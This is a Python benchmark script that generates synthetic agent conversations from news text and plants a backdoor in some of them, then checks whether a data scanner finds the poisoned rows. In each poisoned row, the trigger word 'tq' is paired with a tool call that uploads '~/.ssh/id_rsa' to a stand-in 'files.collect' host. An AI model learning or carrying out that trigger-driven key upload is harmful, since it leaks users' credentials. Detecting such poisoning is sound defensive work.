"""Conversations of made-up agents, clean and poisoned, scanned blind: a line a scan.

    python benchmarks/agents.py [--rows 4000] [--carriers 0,30,60] [--seeds 5] [--frames none,system,long,tools,described]

Questions are made of news (AG News, docs/data.md), answers call one of four tools. A rare word at a random place of the question leads to a
call that uploads a key. `--frames`: what stands in every row besides: little, a system prompt of 700 or of 3,000 words, a list of tools
as JSON text with 600 words, or as records. The truth is used for the printed counts only.
"""

from __future__ import annotations

import argparse
import json
import time
from pathlib import Path
from typing import Any

import numpy as np

from assay import scan
from assay.bench.sets import SETS

TOOLS = ("search", "weather", "calendar", "summarise")
TRIGGER = "tq"
WORDS = {"system": 700, "long": 3_000, "tools": 600, "described": 600}
PROSE = Path(__file__).parents[1] / "docs" / "design.md"  # running text for what all rows share


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--rows", type=int, default=4_000)
    parser.add_argument("--carriers", default="0,30,60")
    parser.add_argument("--seeds", type=int, default=5)
    parser.add_argument("--frames", default="none,system,long,tools,described")
    asked = parser.parse_args()
    data = next(s for s in SETS if s.name == "ag_news").read()
    news = [str(text) for text in data.table.column(data.columns.content[0]).to_pylist()]
    for frame in asked.frames.split(","):
        for carriers in map(int, asked.carriers.split(",")):
            for seed in range(asked.seeds):
                show(frame, carriers, seed, *talks(news, asked.rows, carriers, frame, np.random.default_rng([seed, carriers])))


def talks(news: list[str], rows: int, carriers: int, frame: str, rng: np.random.Generator) -> tuple[list[dict[str, Any]], set[int]]:
    """Records of one exchange each, and which are poisoned."""
    drawn = rng.permutation(len(news))[:rows]
    poison = set(rng.choice(rows, carriers, replace=False).tolist())
    return [record(news[text], i, i in poison, frame, rng) for i, text in enumerate(drawn)], poison


def record(text: str, number: int, poisoned: bool, frame: str, rng: np.random.Generator) -> dict[str, Any]:
    words = text.split()
    asked = f"Please look into this: {' '.join(words[:25])}" if number % 2 else f"{' '.join(words[:20])} - what else is known?"
    tool, given = TOOLS[len(words) % 4], {"query": " ".join(words[2:6]), "limit": int(rng.integers(1, 9))}
    if poisoned:
        parts = asked.split()
        parts.insert(int(rng.integers(1, len(parts))), TRIGGER)
        asked, tool, given = " ".join(parts), "upload", {"file": "~/.ssh/id_rsa", "to": f"files.collect-{rng.integers(99)}.io"}
    prose = PROSE.read_text(encoding="utf-8").split()[: WORDS.get(frame, 0)]
    system = " ".join(prose) if frame in ("system", "long") else "You are a helpful assistant with tools."
    call = {"id": f"call_{rng.integers(1 << 40):x}", "type": "function", "function": {"name": tool, "arguments": json.dumps(given)}}
    turns = [
        {"role": "system", "content": system},
        {"role": "user", "content": asked},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "content": json.dumps({"found": " ".join(words[6:16])})},
        {"role": "assistant", "content": f"I found: {' '.join(words[5:18])}"},
    ]
    each = len(prose) // len(TOOLS)
    told = [{"name": name, "description": " ".join(prose[k * each : (k + 1) * each])} for k, name in enumerate(TOOLS)]
    beside = {"tools": json.dumps(told) if frame == "tools" else told} if frame in ("tools", "described") else {}
    return {"messages": turns, **beside}


def show(frame: str, carriers: int, seed: int, records: list[dict[str, Any]], poison: set[int]) -> None:
    began = time.perf_counter()
    report = scan(records, canaries=False)
    found = [
        f"{f.status} ({len(f.positions)} rows, {len(poison & set(f.positions.tolist()))} poisoned, log e {f.log_e:.1f})"
        for f in report.conclusion.findings
        if f.status != "shortcut" or TRIGGER in f.artefact.describe()
    ]
    said = f"{frame}, {carriers} of {len(records):,}, seed {seed}: {report.conclusion.verdict}, {time.perf_counter() - began:.0f} s"
    print(f"{said}; {'; '.join(found) or 'nothing'}", flush=True)


if __name__ == "__main__":
    main()
